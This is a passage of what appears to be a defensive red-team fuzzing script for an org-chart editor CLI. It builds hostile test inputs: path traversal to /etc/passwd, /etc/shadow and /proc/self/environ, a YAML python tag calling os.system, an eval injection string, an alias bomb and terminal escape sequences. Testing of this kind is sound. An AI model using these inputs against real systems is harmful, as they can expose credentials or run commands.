#!/usr/bin/env python3
"""Red-team corpus for the orgeditor CLI (SPEC sections 2 and 3).

Regenerates a corpus of hostile charts, CSV files, referenced paths and export destinations
under $HOSTILE_CORPUS_DIR/corpus (default /tmp/orgeditor-hostile-corpus), runs every case through the CLI one after the other (nice'd, 30 s
timeout, address space capped at 2 GB with prlimit, wall time and peak RSS measured by
/usr/bin/time -v) and prints a summary table with a verdict per case.

Usage:
    python3 scripts/hostile_corpus.py                    # everything (about 10-20 minutes)
    python3 scripts/hostile_corpus.py --only csv-        # cases whose name contains a substring
    python3 scripts/hostile_corpus.py --kind paths       # one kind
    python3 scripts/hostile_corpus.py --quick            # skip the multi-megabyte size cases
    python3 scripts/hostile_corpus.py --list             # list the cases, run nothing
Environment: ORGEDITOR=/path/to/orgeditor (default: the checkout's .venv/bin/orgeditor).
Results also go to results.json in that folder.  Exit status: 0 all pass, 1 some case fails.

Judgments (tags in the verdict column):
  TRACEBACK  a Python traceback on stdout or stderr
  EXIT       exit status other than 0/1/2 (signals are shown negative)
  TIMEOUT    killed after 30 s;  SLOW: finished but took more than 30 s
  MEM        peak RSS above 1 GB
  LEAK       output echoes a planted canary secret, /etc/passwd or /etc/shadow content,
             or the canary environment variable
  CTRL       raw control characters in output: C0 except LF/TAB, DEL, C1, bidi marks and
             overrides/isolates, U+2028/2029
  TARGET     an export/import destination damaged or replaced: an existing file neither
             fully rewritten (valid output) nor byte-identical; a symlink, FIFO, character
             device, /dev/null or folder not refused with exit 2 or changed; exit 0 with a
             missing or invalid output file
  UNLOCATED  a chart (or CSV) that is not valid per SPEC without exit 2 and a
             'FILE:LINE:COL: error:' line on stderr (also: an exit-2 refusal of an
             accepted-or-refused case without a located line)
Extra observations (reported in their own group, not one of the brief's judgments):
  REFUSED    a valid chart refused (exit 2) by check/trace/diff
  MANGLED    a YAML 1.1 spelling silently turned into another id/value (0x1f -> 31, yes -> True)
  ROUNDTRIP  import/export wrote a YAML chart that `check` then cannot load
  FORMULA    a CSV export cell starting with = + - @ (spreadsheet formula injection)
  LITTER     a failed write left a partial output or a temporary file behind
  EXECUTED   a YAML tag was acted on (a marker file appeared)
  BIGOUT     more than 100 MB written to stdout
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import re
import secrets
import shutil
import signal
import stat
import subprocess
import sys
import threading
import time
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable
from xml.etree import ElementTree

ROOT = Path(os.environ.get("HOSTILE_CORPUS_DIR", "/tmp/orgeditor-hostile-corpus"))
CORPUS = ROOT / "corpus"
OUT = ROOT / "out"
SECRET = ROOT / "secret"
HOME = ROOT / "home"
ORG = os.environ.get("ORGEDITOR", str(Path(__file__).resolve().parents[1] / ".venv" / "bin" / "orgeditor"))
TIMEOUT = 30.0
AS_LIMIT = 2_000_000_000
MEM_LIMIT_MB = 1024.0
MAX_CHART = 20 * 1024 * 1024

# A fresh secret per run: it is only ever in the canary files and the child's environment.
TOKEN = "CANARYSECRET" + secrets.token_hex(8)
ENV_TOKEN = "ENVCANARY" + secrets.token_hex(8)

FAIL_TAGS = ("TRACEBACK", "EXIT", "TIMEOUT", "SLOW", "MEM", "LEAK", "CTRL", "TARGET", "UNLOCATED")
EXTRA_TAGS = ("REFUSED", "MANGLED", "ROUNDTRIP", "FORMULA", "LITTER", "EXECUTED", "BIGOUT")

CTRL_RE = re.compile(
    rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\x8e\x8f\xa8\xa9\xaa-\xae]|\xe2\x81[\xa6-\xa9]"
)
LEAK_RE = re.compile(
    re.escape(TOKEN.encode()) + b"|" + re.escape(ENV_TOKEN.encode()) + rb"|root:[x*!$][^:\n]*:\d+:|daemon:[x*!]:"
)
TB_RE = re.compile(rb"Traceback \(most recent call last\)")
LOCATED_RE = re.compile(r"^.*?:\d+:\d+: error: ", re.M)


# =============================================================================== corpus


def w(rel: str, data: str | bytes) -> Path:
    path = CORPUS / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
    return path


UNITS_SMALL = "  root: {name: Root, kind: office}\n  a: {name: A, kind: department, reports_to: root}\n"


def chart(units: str = UNITS_SMALL, top: str = "", tail: str = "", title: str = "Redteam") -> str:
    return f"orgchart: 1\ntitle: {title}\n{top}units:\n{units}{tail}"


def ystr(text: str) -> str:
    """A YAML double-quoted scalar for *text* (control characters as escapes)."""
    out = []
    for ch in text:
        o = ord(ch)
        if ch in '"\\':
            out.append("\\" + ch)
        elif o < 0x20 or 0x7F <= o <= 0x9F or 0xD800 <= o <= 0xDFFF or o in (0x2028, 0x2029, 0xFEFF):
            out.append(f"\\x{o:02x}" if o < 0x100 else f"\\u{o:04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def b36(n: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    s = ""
    while True:
        n, r = divmod(n, 36)
        s = digits[r] + s
        if n == 0:
            return s


def make_secrets() -> dict[str, Path]:
    shutil.rmtree(SECRET, ignore_errors=True)
    SECRET.mkdir(parents=True)
    files = {
        "canary.yaml": f"{TOKEN}: the canary secret\n",
        "canary": f"{TOKEN}: the canary secret (no suffix)\n",
        "creds.yaml": f"username: admin\npassword: {TOKEN}\n",
        "app.env": f"API_KEY={TOKEN}\nDEBUG=1\n",
        "id_rsa": f"-----BEGIN OPENSSH PRIVATE KEY-----\n{TOKEN}AAAAB3NzaC1yc2EAAAADAQABAAABAQ\n-----END OPENSSH PRIVATE KEY-----\n",
        "list.yaml": f"- {TOKEN}\n- second\n",
        "chartlike.yaml": f"orgchart: 1\ntitle: t\nunits:\n  x: {{name: n, kind: {TOKEN}}}\n",
        "rulebooklike.yaml": f"rulebook: 1\nname: {TOKEN}\ntitle: t\nrules:\n  - id: {TOKEN}\n",
        "notes.txt": f"{TOKEN} plain text line one\nline two\n",
        "image.yaml": b"\x89PNG\r\n\x1a\n".decode("latin-1") + TOKEN + "\x00\x01binary\n",
    }
    out = {}
    for name, text in files.items():
        p = SECRET / name
        p.write_bytes(text.encode("latin-1") if name == "image.yaml" else text.encode())
        out[name] = p
    huge = SECRET / "huge.yaml"
    with huge.open("wb") as fh:
        fh.write(f"{TOKEN}: first line\n".encode())
        line = b"filler_key_padding: some value that fills the file\n"
        fh.write(line * (25 * 1024 * 1024 // len(line)))
    out["huge.yaml"] = huge
    big_rb = SECRET / "bigrulebook.yaml"  # 3 MB: over the rulebook limit
    big_rb.write_bytes(f"{TOKEN}: x\n".encode() + b"# pad\n" * 500_000)
    out["bigrulebook.yaml"] = big_rb
    return out


# =============================================================================== cases


@dataclass
class Case:
    name: str
    kind: str
    args: list[str]
    # bad: exit 2 + located error;  either: 0/1, or 2 with a located error;
    # valid: 0/1 (2 = REFUSED);  any: 0/1/2;  export: 0 or 2 (output checked when 0)
    expect: str = "any"
    target: str | None = None  # path of a write destination to judge
    target_mode: str = ""  # existing | fresh | special | noreplace | nsdev
    fmt: str = ""
    wrapper: list[str] = field(default_factory=list)
    statefile: str | None = None
    post: Callable[["Result"], list[tuple[str, str]]] | None = None
    heavy: bool = False
    note: str = ""


@dataclass
class Result:
    case: Case
    exit: int | None = None
    seconds: float = 0.0
    peak_mb: float = 0.0
    out_head: bytes = b""
    err_head: bytes = b""
    out_bytes: int = 0
    err_bytes: int = 0
    tags: dict[str, str] = field(default_factory=dict)
    skipped: str = ""


CASES: list[Case] = []


def add(*a, **k) -> Case:
    c = Case(*a, **k)
    CASES.append(c)
    return c


def o(name: str) -> str:
    return str(OUT / name)


def build_paths(sec: dict[str, Path]) -> None:
    """rulebooks:/baseline: pointing at files that are not the chart."""
    d = CORPUS / "paths"
    d.mkdir(parents=True, exist_ok=True)
    os.mkfifo(d / "fifo.yaml")
    (d / "folder.yaml").mkdir()
    os.symlink("loop.yaml", d / "loop.yaml")
    os.symlink("loop-b.yaml", d / "loop-a.yaml")
    os.symlink("loop-a.yaml", d / "loop-b.yaml")
    os.symlink(str(sec["canary.yaml"]), d / "link-to-canary.yaml")
    with (d / "sparse.yaml").open("wb") as fh:
        fh.truncate(10 * 1024**3)
    w("paths/basechart", chart(title="A baseline without suffix"))
    targets = {
        "passwd-traversal": "../../../../../../../etc/passwd",
        "passwd-abs": "/etc/passwd",
        "shadow-abs": "/etc/shadow",
        "canary-rel-yaml": "../../secret/canary.yaml",
        "canary-abs-yaml": str(sec["canary.yaml"]),
        "canary-rel-nosuffix": "../../secret/canary",
        "canary-abs-nosuffix": str(sec["canary"]),
        "canary-creds": "../../secret/creds.yaml",
        "canary-env": "../../secret/app.env",
        "canary-pem": str(sec["id_rsa"]),
        "canary-list": "../../secret/list.yaml",
        "canary-chartlike": "../../secret/chartlike.yaml",
        "canary-rulebooklike": "../../secret/rulebooklike.yaml",
        "canary-txt": "../../secret/notes.txt",
        "canary-binary": "../../secret/image.yaml",
        "canary-huge-25mb": "../../secret/huge.yaml",
        "canary-3mb": "../../secret/bigrulebook.yaml",
        "canary-symlink": "link-to-canary.yaml",
        "canary-traversal": "../../../../../.." + str(ROOT / "secret" / "canary.yaml"),
        "dev-zero": "/dev/zero",
        "dev-urandom": "/dev/urandom",
        "fifo": "fifo.yaml",
        "folder": "folder.yaml",
        "symlink-loop": "loop.yaml",
        "symlink-loop2": "loop-a.yaml",
        "sparse-10g": "sparse.yaml",
        "proc-environ": "/proc/self/environ",
        "nul-in-path": "a\x00b.yaml",
        "long-path": "x/" * 3000 + "c.yaml",
        "esc-in-path": "\x1b[2J\x1b]0;pwned\x07missing.yaml",
        "nosuffix-chart": "basechart",
        "self": "baseline-self.yaml",
    }
    for label, target in targets.items():
        p = w(
            f"paths/baseline-{label}.yaml",
            chart(top=f"baseline: {ystr(target if label != 'self' else 'baseline-self.yaml')}\nrulebooks: [peace-security-2017]\n"),
        )
        add(f"path-baseline-{label}", "paths", ["check", str(p.relative_to(CORPUS))], "any")
        if label in ("nosuffix-chart", "self"):
            continue
        p = w(f"paths/rulebook-{label}.yaml", chart(top=f"rulebooks: [{ystr(target)}]\n"))
        add(f"path-rulebook-{label}", "paths", ["check", str(p.relative_to(CORPUS))], "bad")
    # the same references through other commands
    add("path-diff-baseline-canary", "paths", ["diff", "paths/baseline-canary-abs-yaml.yaml", "paths/baseline-passwd-abs.yaml"], "any")
    add("path-diff-json-canary", "paths", ["diff", "--format", "json", "paths/baseline-canary-creds.yaml", "paths/baseline-canary-list.yaml"], "any")
    add("path-diff-rulebook-canary", "paths", ["diff", "paths/rulebook-canary-abs-yaml.yaml", "paths/rulebook-canary-creds.yaml"], "bad")
    add("path-export-rulebook-canary", "paths", ["export", "paths/rulebook-canary-abs-yaml.yaml", "-o", o("rb-canary.svg")], "export", o("rb-canary.svg"), "fresh", "svg")
    add("path-export-rulebook-passwd", "paths", ["export", "paths/rulebook-passwd-abs.yaml", "-o", o("rb-passwd.pptx")], "export", o("rb-passwd.pptx"), "fresh", "pptx")
    add("path-export-rulebook-fifo", "paths", ["export", "paths/rulebook-fifo.yaml", "-o", o("rb-fifo.svg")], "export", o("rb-fifo.svg"), "fresh", "svg")
    # charts/CSVs given on the command line that are not regular files
    for label, target in (("fifo", "paths/fifo.yaml"), ("dev-zero", "/dev/zero"), ("dev-urandom", "/dev/urandom"),
                          ("folder", "paths/folder.yaml"), ("symlink-loop", "paths/loop.yaml"),
                          ("sparse-10g", "paths/sparse.yaml"), ("missing", "paths/nope.yaml")):
        add(f"path-cli-check-{label}", "paths", ["check", target], "bad")
    add("path-cli-diff-fifo", "paths", ["diff", "paths/fifo.yaml", "paths/basechart"], "bad")
    add("path-cli-trace-devzero", "paths", ["trace", "/dev/zero", "root"], "bad")


def build_rulebooks() -> None:
    """Hostile rulebook files named by a chart (a chart and its rulebook travel together)."""
    base = "rulebook: 1\nname: hostile\ntitle: t\n"
    books = {
        "param-5000-digits": base + "parameters:\n  span-limit: " + "9" * 5000 + "\nrules:\n  - id: x.span\n    severity: warning\n    title: t\n    check: {max-direct-reports: {max: $span-limit}}\n",
        "param-inf": base + "parameters:\n  span-limit: 1.0e400\nrules:\n  - id: x.span\n    severity: warning\n    title: t\n    check: {max-direct-reports: {max: $span-limit}}\n",
        "param-nan": base + "rules:\n  - id: x.span\n    severity: warning\n    title: t\n    check: {max-direct-reports: {max: .nan}}\n",
        "python-tag": base + "rules: !!python/object/apply:os.system ['touch " + o("PWNED-rulebook") + "']\n",
        "alias-bomb": base + "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nrules: []\n",
        "deep-nesting": base + "rules: " + "[" * 100_000 + "]" * 100_000 + "\n",
        "esc-noun": base + "rules:\n  - id: x.esc\n    severity: error\n    title: \"t\\e[2J\"\n    fix: \"\\e]0;pwned\\a\"\n    check: {count: {select: {root: true}, equals: 5, noun: \"roots\\e[31m\\u202e\\r\"}}\n",
        "esc-rule-id": base + "rules:\n  - id: \"x.\\e[31mred\"\n    severity: error\n    title: t\n    check: {count: {select: {root: true}, equals: 5, noun: roots}}\n",
        "unknown-check": base + "rules:\n  - id: x.u\n    severity: error\n    title: t\n    check: {eval: \"__import__('os').system('id')\"}\n",
        "huge-int-equals": base + "rules:\n  - id: x.c\n    severity: error\n    title: t\n    check: {count: {select: {root: true}, equals: " + "1" * 5000 + ", noun: roots}}\n",
        "float-equals": base + "rules:\n  - id: x.c\n    severity: error\n    title: t\n    check: {count: {select: {root: true}, equals: 1.0e400, noun: roots}}\n",
        "rulebook-version-big": "rulebook: " + "1" * 5000 + "\nname: x\ntitle: t\nrules: []\n",
        "surrogate": base + "rules:\n  - id: x.s\n    severity: error\n    title: \"\\ud800\"\n    check: {count: {select: {root: true}, equals: 5, noun: \"r\\udc80\"}}\n",
    }
    for label, text in books.items():
        w(f"rulebooks/{label}.yaml", text)
        p = w(f"rulebooks/chart-{label}.yaml", chart(top=f"rulebooks: [{label}.yaml]\n"))
        expect = "any" if label in ("esc-noun", "param-inf", "param-nan", "float-equals") else "bad"
        c = add(f"rulebook-{label}", "rulebook", ["check", str(p.relative_to(CORPUS))], expect)
        if label == "python-tag":
            c.post = lambda r: [("EXECUTED", "marker file created")] if (OUT / "PWNED-rulebook").exists() else []


BIG = "9" * 5000


def build_numbers() -> None:
    # integers over 4,300 digits
    ints = {
        "posts-5000-digits": chart(UNITS_SMALL + f"  b: {{name: B, kind: unit, reports_to: root, posts: {BIG}}}\n"),
        "posts-neg-5000-digits": chart(UNITS_SMALL + f"  b: {{name: B, kind: unit, reports_to: root, posts: -{BIG}}}\n"),
        "posts-4301-digits": chart(UNITS_SMALL + f"  b: {{name: B, kind: unit, reports_to: root, posts: {'1' * 4301}}}\n"),
        "posts-100k-digits": chart(UNITS_SMALL + f"  b: {{name: B, kind: unit, reports_to: root, posts: {'7' * 100_000}}}\n"),
        "orgchart-5000-digits": chart().replace("orgchart: 1", f"orgchart: {BIG}"),
        "orgchart-neg-5000": chart().replace("orgchart: 1", f"orgchart: -{BIG}"),
        "position-x-5000-digits": chart(tail=f"layout:\n  positions: {{root: [{BIG}, 0]}}\n"),
        "position-y-5000-digits-float": chart(tail=f"layout:\n  positions: {{root: [0, {BIG}.5]}}\n"),
        "position-5000-neg": chart(tail=f"layout:\n  positions: {{a: [-{BIG}, -{BIG}]}}\n"),
        "unit-key-5000-digits": chart(UNITS_SMALL + f"  {BIG}: {{name: B, kind: unit, reports_to: root}}\n"),
        "name-5000-digits": chart(UNITS_SMALL + f"  b: {{name: {BIG}, kind: unit, reports_to: root}}\n"),
        "title-5000-digits": chart(title=BIG),
        "reports-to-5000-digits": chart(UNITS_SMALL + f"  b: {{name: B, kind: unit, reports_to: {BIG}}}\n"),
        "link-from-5000-digits": chart(tail=f"links:\n  - {{from: {BIG}, to: root, kind: informs}}\n"),
        "group-member-5000-digits": chart(tail=f"groups:\n  g: {{name: G, members: [a, {BIG}]}}\n"),
        "head-rank-5000-digits": chart(UNITS_SMALL + f"  b: {{name: B, kind: unit, reports_to: root, head: {{title: T, rank: {BIG}}}}}\n"),
        "kind-5000-digits": chart(UNITS_SMALL + f"  b: {{name: B, kind: {BIG}, reports_to: root}}\n"),
        "scope-5000-digits": chart(UNITS_SMALL + f"  b: {{name: B, kind: unit, reports_to: {{to: root, scope: {BIG}}}}}\n"),
    }
    either = {"posts-5000-digits", "posts-4301-digits", "posts-100k-digits", "position-x-5000-digits",
              "position-y-5000-digits-float", "name-5000-digits", "title-5000-digits"}
    for label, text in ints.items():
        p = w(f"numbers/{label}.yaml", text)
        expect = "either" if label in either else "bad"
        add(f"bigint-{label}", "bigint", ["check", str(p.relative_to(CORPUS))], expect)
    add("bigint-trace-name-5000", "bigint", ["trace", "numbers/name-5000-digits.yaml", "b"], "either")
    add("bigint-export-pos-5000-svg", "bigint", ["export", "numbers/position-x-5000-digits.yaml", "-o", o("pos5000.svg")], "export", o("pos5000.svg"), "fresh", "svg")
    add("bigint-diff-posts-5000", "bigint", ["diff", "numbers/posts-5000-digits.yaml", "numbers/posts-4301-digits.yaml"], "either")

    # floats / YAML 1.1 numbers in posts
    posts = {
        "1.0e400": "bad", "-1.0e400": "bad", ".nan": "bad", ".NaN": "bad", ".inf": "bad", "-.inf": "bad",
        "1e400": "bad", "0x1f": "either", "017": "either", "0o17": "either", "1:20": "either",
        "0b101": "either", "1_000": "either", "1.5": "bad", "true": "bad", "yes": "bad", "-1": "bad",
        '"12"': "bad", "1e3": "bad", "10000000000000000000000000000000": "either", "12.0": "either",
        "1:20:30.5": "bad", "~": "either", "[]": "bad", "{}": "bad",
    }
    for i, (val, expect) in enumerate(posts.items()):
        p = w(f"numbers/posts-{i:02d}.yaml", chart(UNITS_SMALL + f"  b: {{name: B, kind: unit, reports_to: root, posts: {val}}}\n"))
        add(f"num-posts-{val}", "numbers", ["check", str(p.relative_to(CORPUS))], expect)
    # positions
    d300 = "1" + "0" * 299
    d400 = "1" + "0" * 399
    positions = {
        "1.0e400,0": ("bad", False), ".nan,.nan": ("bad", False), ".inf,0": ("bad", False), "0,-.inf": ("bad", False),
        "0x10,0x20": ("either", True), "1:20,1:20": ("either", True), "017,0b11": ("either", True),
        "1e5,0": ("either", False), f"{d300},0": ("either", True), f"0,-{d300}": ("either", True),
        f"{d400},0": ("either", True), f"{d300}.0,0": ("either", True),
        "1.7976931348623157e308,-1.7976931348623157e308": ("either", True), "1e-320,5e-324": ("either", True),
        "1": ("bad", False), "1,2,3": ("bad", False), '"1","2"': ("bad", False), "true,false": ("bad", False),
        "~,~": ("bad", False),
    }
    for i, (val, (expect, render)) in enumerate(positions.items()):
        p = w(f"numbers/pos-{i:02d}.yaml", chart(tail=f"layout:\n  positions: {{root: [{val}], a: [0, 140]}}\n"))
        short = val if len(val) < 40 else val[:6] + f"..({len(val)}ch)"
        add(f"num-pos-{short}", "numbers", ["check", str(p.relative_to(CORPUS))], expect)
        if render:
            for fmt in ("svg", "png") if i % 2 == 0 else ("pdf", "pptx"):
                add(f"num-pos-{short}-export-{fmt}", "numbers", ["export", str(p.relative_to(CORPUS)), "-o", o(f"pos{i:02d}.{fmt}")],
                    "export", o(f"pos{i:02d}.{fmt}"), "fresh", fmt)
    # an export with extreme positions onto an existing file: must stay byte-identical on failure
    p = w("numbers/pos-extreme-existing.yaml", chart(tail="layout:\n  positions: {root: [1.7976931348623157e308, 0], a: [-1.7976931348623157e308, 0]}\n"))
    add("num-pos-extreme-existing-png", "numbers", ["export", str(p.relative_to(CORPUS)), "-o", o("existing-extreme.png")],
        "export", o("existing-extreme.png"), "existing", "png")
    # orgchart version odd spellings
    for i, (val, expect) in enumerate({"true": "bad", "yes": "bad", "1.0": "either", "0x1": "either", "2": "bad",
                                       "'1'": "either", ".nan": "bad", "[1]": "bad", "1:00": "either"}.items()):
        p = w(f"numbers/version-{i}.yaml", chart().replace("orgchart: 1", f"orgchart: {val}"))
        add(f"num-version-{val}", "numbers", ["check", str(p.relative_to(CORPUS))], expect)


def _name_mangle_post(needle_bad: str, needle_good: str):
    def post(r: Result) -> list[tuple[str, str]]:
        if r.exit == 0 and needle_bad.encode() in r.out_head and needle_good.encode() not in r.out_head:
            line = next((ln for ln in r.out_head.splitlines() if needle_bad.encode() in ln), b"")
            return [("MANGLED", f"written {needle_good!r}, shown {line.decode(errors='replace')!r}")]
        return []
    return post


def build_yaml11() -> None:
    keys = ["0x1f", "on", "yes", "no", "off", "y", "n", "true", "1:20", "~", "null", "1e3", ".inf", "2001-12-14",
            "007", "1_000", "0b101", "1.10", "1.0", "=", "<<", "2001-12-14t21:59:43.10-05:00", "0o17", "1e+3", "NULL", "Null"]
    for i, key in enumerate(keys):
        units = UNITS_SMALL + f"  {key}: {{name: Key {i}, kind: unit, reports_to: root}}\n"
        p = w(f"yaml11/key-{i:02d}.yaml", chart(units))
        outp = o(f"yaml11-key-{i:02d}.yaml")

        def post(r: Result, key=key, outp=outp) -> list[tuple[str, str]]:
            if r.exit != 0 or not Path(outp).exists():
                return []
            text = Path(outp).read_text(errors="replace")
            ids = re.findall(r"^  ((?:'[^']*'|\"[^\"]*\"|[^ :][^:]*)):", text, re.M)
            ids = [x.strip("'\"") for x in ids]
            if key not in ids:
                return [("MANGLED", f"id {key!r} written back as one of {ids[:6]!r}")]
            return []

        add(f"yaml11-key-{key}", "yaml11", ["export", str(p.relative_to(CORPUS)), "-o", outp], "either", outp, "fresh", "yaml", post=post)
    # literal spellings as references: units '7' and '007' exist; 'c' reports_to 007 unquoted
    refs = {
        "reports_to-007": ("  '7': {name: Seven, kind: unit, reports_to: root}\n  '007': {name: Bond, kind: unit, reports_to: root}\n"
                           "  c: {name: C, kind: unit, reports_to: 007}\n", "c", "Bond", "Seven"),
        "reports_to-on": ("  'on': {name: On, kind: unit, reports_to: root}\n  'true': {name: TrueUnit, kind: unit, reports_to: root}\n"
                          "  c: {name: C, kind: unit, reports_to: on}\n", "c", "On", "TrueUnit"),
        "reports_to-0x1f": ("  '31': {name: ThirtyOne, kind: unit, reports_to: root}\n  '0x1f': {name: Hex, kind: unit, reports_to: root}\n"
                            "  c: {name: C, kind: unit, reports_to: 0x1f}\n", "c", "Hex", "ThirtyOne"),
        "reports_to-1.10": ("  '1.1': {name: OneOne, kind: unit, reports_to: root}\n  '1.10': {name: OneTen, kind: unit, reports_to: root}\n"
                            "  c: {name: C, kind: unit, reports_to: 1.10}\n", "c", "OneTen", "OneOne"),
    }
    for label, (units, unit, good, bad) in refs.items():
        p = w(f"yaml11/ref-{label}.yaml", chart(UNITS_SMALL + units))
        add(f"yaml11-{label}", "yaml11", ["trace", str(p.relative_to(CORPUS)), unit], "either", post=_name_mangle_post(bad, good))
    p = w("yaml11/members-yes-no.yaml", chart(UNITS_SMALL + "  'yes': {name: Y, kind: unit, reports_to: root}\n  'no': {name: N, kind: unit, reports_to: root}\n",
                                              tail="groups:\n  g: {name: G, members: [yes, no]}\n"))
    add("yaml11-members-yes-no", "yaml11", ["export", str(p.relative_to(CORPUS)), "-o", o("members-yes-no.yaml")], "either", o("members-yes-no.yaml"), "fresh", "yaml")
    p = w("yaml11/collapsed-null.yaml", chart(UNITS_SMALL + "  'null': {name: Nul, kind: unit, reports_to: root}\n", tail="layout:\n  collapsed: [null, ~]\n"))
    add("yaml11-collapsed-null", "yaml11", ["check", str(p.relative_to(CORPUS))], "either")
    # values
    for label, val, bad in (("name-yes", "yes", "True"), ("name-0x1f", "0x1f", "31"), ("name-1.10", "1.10", "1.1"),
                            ("name-007", "007", "(7)"), ("name-1_000", "1_000", "1000"), ("name-1:20", "1:20", "80")):
        p = w(f"yaml11/{label}.yaml", chart(f"  root: {{name: {val}, kind: office}}\n"))
        add(f"yaml11-{label}", "yaml11", ["trace", str(p.relative_to(CORPUS)), "root"], "either",
            post=_name_mangle_post(bad, val))
    p = w("yaml11/merge-key.yaml", chart("  root: {name: Root, kind: office}\n  a:\n    <<: {name: Merged, kind: unit}\n    reports_to: root\n"))
    add("yaml11-merge-key-in-unit", "yaml11", ["check", str(p.relative_to(CORPUS))], "bad")
    p = w("yaml11/value-key.yaml", chart("  root: {name: Root, kind: office}\n  a: {=: x, name: A, kind: unit, reports_to: root}\n"))
    add("yaml11-value-key-in-unit", "yaml11", ["check", str(p.relative_to(CORPUS))], "bad")
    p = w("yaml11/kind-equals.yaml", chart("  root: {name: =, kind: =}\n"))
    add("yaml11-kind-equals", "yaml11", ["check", str(p.relative_to(CORPUS))], "bad")


def build_control() -> None:
    esc = "\x1b[2J\x1b]0;pwned\x07"
    texts = {
        "name-esc": ("name", "Root" + esc),
        "name-bidi": ("name", "Root \u202eevil\u202c"),
        "name-c1-csi": ("name", "Root\x9b31m"),
        "name-cr": ("name", "Root\rOVERWRITE"),
        "name-nel": ("name", "Root\x85next"),
        "name-lsep": ("name", "Root\u2028next"),
        "name-surrogate": ("name", "Root\ud800"),
        "name-isolate": ("name", "Root\u2066x\u2069"),
        "short-esc": ("short", "R" + esc),
        "short-bidi": ("short", "R\u202e"),
        "head-title-esc": ("head", esc),
        "head-title-bidi": ("head", "Chief \u202eevil"),
        "head-name-cr": ("headname", "Jane\r Doe"),
        "head-name-surrogate": ("headname", "J\udfff"),
    }
    for label, (where, value) in texts.items():
        if where in ("name", "short"):
            units = f"  root: {{name: Root, kind: office, {where}: {ystr(value)}}}\n" if where == "short" else f"  root: {{name: {ystr(value)}, kind: office}}\n"
        elif where == "head":
            units = f"  root: {{name: Root, kind: office, head: {{title: {ystr(value)}, rank: SG}}}}\n"
        else:
            units = f"  root: {{name: Root, kind: office, head: {{title: Boss, rank: SG, name: {ystr(value)}}}}}\n"
        units += "  a: {name: A, kind: department, reports_to: root}\n  b: {name: B, kind: department, reports_to: root, short: R}\n  c: {name: C, kind: unit, reports_to: root, short: R}\n"
        p = w(f"control/{label}.yaml", chart(units))
        rel = str(p.relative_to(CORPUS))
        add(f"ctrl-{label}-trace", "control", ["trace", rel, "a"], "either")
        if label in ("name-esc", "name-bidi", "name-surrogate", "short-esc", "name-cr", "name-c1-csi"):
            add(f"ctrl-{label}-check", "control", ["check", rel], "either")
    # text used in findings
    p = w("control/findings-esc.yaml", chart(
        "  root: {name: " + ystr("Root" + esc) + ", kind: office, head: {title: T, rank: P-1}}\n"
        "  x: {name: " + ystr("Child\u202e" + esc) + ", kind: unit, reports_to: root, short: " + ystr("D\x1b[5m") + ", head: {title: T, rank: SG}}\n"
        "  y: {name: " + ystr("Twin\r") + ", kind: unit, reports_to: root, short: " + ystr("D\x1b[5m") + "}\n"
        "  z: {name: " + ystr("Orphan\x9b") + ", kind: unit}\n",
        tail="groups:\n  g: {name: " + ystr("Group" + esc) + ", members: [x]}\n"))
    add("ctrl-findings-text", "control", ["check", str(p.relative_to(CORPUS))], "either")
    add("ctrl-findings-json", "control", ["check", "--format", "json", str(p.relative_to(CORPUS))], "either")
    w("control/findings-esc-b.yaml", chart("  root: {name: " + ystr("Other" + esc) + ", kind: office}\n  x: {name: " + ystr("X\u202e") + ", kind: unit, reports_to: root}\n"))
    add("ctrl-diff-text", "control", ["diff", "control/findings-esc.yaml", "control/findings-esc-b.yaml"], "either")
    add("ctrl-diff-markdown", "control", ["diff", "--format", "markdown", "control/findings-esc.yaml", "control/findings-esc-b.yaml"], "either")
    # region vocabulary with controls (regions-partitioned needs the pillar rulebook)
    p = w("control/regions-esc.yaml", chart(
        "  root: {name: Root, kind: office}\n"
        "  r1: {name: R1, kind: office, reports_to: root, head: {title: T, rank: ASG}, regions: [" + ystr("Af\x1b[31mrica") + "]}\n"
        "  r2: {name: R2, kind: office, reports_to: root, head: {title: T, rank: ASG}, regions: [" + ystr("Af\x1b[31mrica") + "]}\n",
        top="rulebooks: [peace-security-2017]\nregions: [" + ystr("Af\x1b[31mrica") + ", " + ystr("\u202eEurope") + "]\n"))
    add("ctrl-regions-check", "control", ["check", str(p.relative_to(CORPUS))], "either")
    # bad charts whose errors echo the hostile text
    bad = {
        "id-esc": chart(UNITS_SMALL + "  " + ystr("b" + esc) + ": {name: B, kind: unit, reports_to: root}\n"),
        "id-bidi": chart(UNITS_SMALL + "  " + ystr("b\u202e") + ": {name: B, kind: unit, reports_to: root}\n"),
        "id-surrogate": chart(UNITS_SMALL + "  " + ystr("b\ud800") + ": {name: B, kind: unit, reports_to: root}\n"),
        "id-c1": chart(UNITS_SMALL + "  " + ystr("b\x9b2J") + ": {name: B, kind: unit, reports_to: root}\n"),
        "top-key-esc": chart(top=ystr("title" + esc) + ": x\n"),
        "unit-key-esc": chart("  root: {name: Root, kind: office, " + ystr("kin\x1b[1md") + ": office}\n"),
        "kind-esc": chart("  root: {name: Root, kind: " + ystr("office" + esc) + "}\n"),
        "rank-bidi": chart("  root: {name: Root, kind: office, head: {title: T, rank: " + ystr("SG\u202e") + "}}\n"),
        "reports-to-esc": chart(UNITS_SMALL + "  b: {name: B, kind: unit, reports_to: " + ystr("ro\x1b[8mot") + "}\n"),
        "function-esc": chart("  root: {name: Root, kind: office, functions: [" + ystr("good\x1b[0m-offices") + "]}\n"),
        "scope-cr": chart(UNITS_SMALL + "  b: {name: B, kind: unit, reports_to: {to: root, scope: " + ystr("mission\r") + "}}\n"),
        "link-kind-esc": chart(tail="links:\n  - {from: a, to: root, kind: " + ystr("informs" + esc) + "}\n"),
